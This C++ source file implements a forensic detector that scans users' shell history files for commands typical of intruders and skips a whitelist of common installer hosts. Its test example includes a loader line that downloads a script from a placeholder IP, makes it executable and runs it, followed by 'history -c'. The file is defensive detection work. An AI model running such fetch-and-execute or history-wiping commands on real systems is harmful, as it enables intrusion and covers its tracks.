// SPDX-License-Identifier: Apache-2.0
#include <algorithm>
#include <charconv>

#include "base/text.h"
#include "sweep/host/code/command_signs.h"
#include "sweep/kit/detector.h"

namespace abate::sweep {
namespace {

constexpr std::size_t kHistoryBytesMax = std::size_t{4} << 20;
constexpr std::size_t kLinesMax = 6;
constexpr std::string_view kNames[] = {".bash_history", ".zsh_history", ".ash_history", ".sh_history", ".history"};

// Whose installers are run straight from the network by half the world.
bool is_known_installer(std::string_view line) {
  constexpr std::string_view kHosts[] = {"get.docker.com",
                                         "sh.rustup.rs",
                                         "deb.nodesource.com",
                                         "rpm.nodesource.com",
                                         "raw.githubusercontent.com",
                                         "getcomposer.org",
                                         "install.python-poetry.org",
                                         "get.k3s.io",
                                         "bun.sh",
                                         "deno.land",
                                         "starship.rs",
                                         "get.acme.sh",
                                         "repo.mysql.com",
                                         "packages.sury.org",
                                         "my-netdata.io",
                                         "get.pnpm.io",
                                         "tailscale.com",
                                         "github.com",
                                         "packages.gitlab.com",
                                         "cyberpanel",
                                         "securedownloads.cpanel.net",
                                         "autoinstall.plesk.com",
                                         "get.helm.sh",
                                         "dl.google.com",
                                         "install.speedtest.net",
                                         "packagecloud.io",
                                         "hestiacp.com",
                                         "virtualmin.com",
                                         "cloudpanel.io",
                                         "directadmin.com",
                                         "downloads.mariadb.com",
                                         "astral.sh",
                                         "ohmyz.sh",
                                         "fly.io",
                                         "sentry.io",
                                         "datadoghq.com"};
  return std::ranges::any_of(kHosts, [&](std::string_view host) { return line.find(host) != std::string_view::npos; });
}

void read(const Host& host, const Account& account, const std::string& path, Findings& out) {
  const Result<std::string> text = read_whole(*host.tree, path, kHistoryBytesMax);
  const Result<Stat> stat = host.tree->stat(path);
  if (!text || !stat) return;
  std::uint32_t number = 0;
  std::optional<Instant> typed_at;
  std::vector<std::string> lines;
  std::optional<Instant> first;
  std::uint32_t first_line = 0;
  std::string says;
  for (std::string_view line : split(*text, '\n')) {
    ++number;
    std::int64_t seconds = 0;
    if (line.starts_with('#')) {  // bash: "#1772442000"
      const auto [end, error] = std::from_chars(line.data() + 1, line.data() + line.size(), seconds);
      if (error == std::errc{} && end == line.data() + line.size() && seconds > 1'000'000'000)
        typed_at = from_micros(std::min<std::int64_t>(seconds, 4'000'000'000) * 1'000'000);
      continue;
    }
    if (line.starts_with(": ") && line.find(":0;") != std::string_view::npos) {  // zsh: ": 1772442000:0;command"
      std::from_chars(line.data() + 2, line.data() + line.size(), seconds);
      if (seconds > 1'000'000'000) typed_at = from_micros(std::min<std::int64_t>(seconds, 4'000'000'000) * 1'000'000);
      line = line.substr(line.find(";") + 1);
    }
    const CommandSigns signs = command_signs(line);
    if (!signs.bad() || is_known_installer(line)) continue;
    if (typed_at && host.ticket.span &&
        (*typed_at < host.ticket.span->begin - std::chrono::hours{24 * 30} ||
         *typed_at > host.ticket.span->end + std::chrono::hours{24 * 3}))
      continue;
    if (lines.empty()) {
      first = typed_at;
      first_line = number;
      says = signs.says;
    }
    if (lines.size() < kLinesMax) lines.push_back(fmt::format("{}:{}: {}", path, number, line.substr(0, 300)));
  }
  if (lines.empty()) return;
  // A log: nobody quarantines it, it is what a person reads.
  Subject subject{.kind = SubjectKind::log, .path = path, .name = account.name, .line = first_line};
  Finding& finding =
      out.add(std::move(subject), fmt::format("{} typed a command of which one must say: {}", account.name, says));
  finding.at = first ? first : std::optional{stat->modified};
  finding.uid = account.uid;
  finding.evidence = lines;
  finding.ids.push_back(account.name);
}

void look(const Host& host, Findings& out) {
  for (const Account& account : host.accounts)
    if (account.home.size() > 1)
      for (const std::string_view name : kNames) read(host, account, join_path(account.home, name), out);
}

constexpr Example kExamples[] = {{"a loader, typed by root", R"TREE(--- /etc/passwd
root:x:0:0::/root:/bin/bash
www-data:x:33:33::/var/www:/usr/sbin/nologin
anna:x:1000:1000::/home/anna:/bin/bash
--- /root/.bash_history
apt update
cd /tmp; wget http://198.51.100.9/i.sh; chmod +x i.sh; ./i.sh
history -c
)TREE",
                                  1},
                                 {"work", R"TREE(--- /etc/passwd
root:x:0:0::/root:/bin/bash
www-data:x:33:33::/var/www:/usr/sbin/nologin
anna:x:1000:1000::/home/anna:/bin/bash
--- /root/.bash_history
curl -fsSL https://get.docker.com | sh
wget https://wordpress.org/latest.tar.gz
systemctl restart nginx
)TREE",
                                  0}};

}  // namespace

extern const Detector shell_history_signs_detector;
constinit const Detector shell_history_signs_detector{
    .id = "shell_history_signs",
    .area = Area::accounts,
    .severity = Severity::suspicious,
    .title = "Somebody typed what an intruder types",
    .explain =
        R"TEXT(The history of a shell keeps what was typed. Here somebody fetched a program and ran it at once, unpacked hidden code, opened a shell for somebody outside, or started a miner. Installers of good programs are fetched the same way (curl … | sh): those of well-known names are left alone, and it is never called malicious by itself. With times in the history, only what was typed around the reported harm counts.
What to do: ask the account's owner; if nobody typed it, look what it fetched and what the account was used for next.)TEXT",
    .host = look,
    .examples = kExamples};

}  // namespace abate::sweep
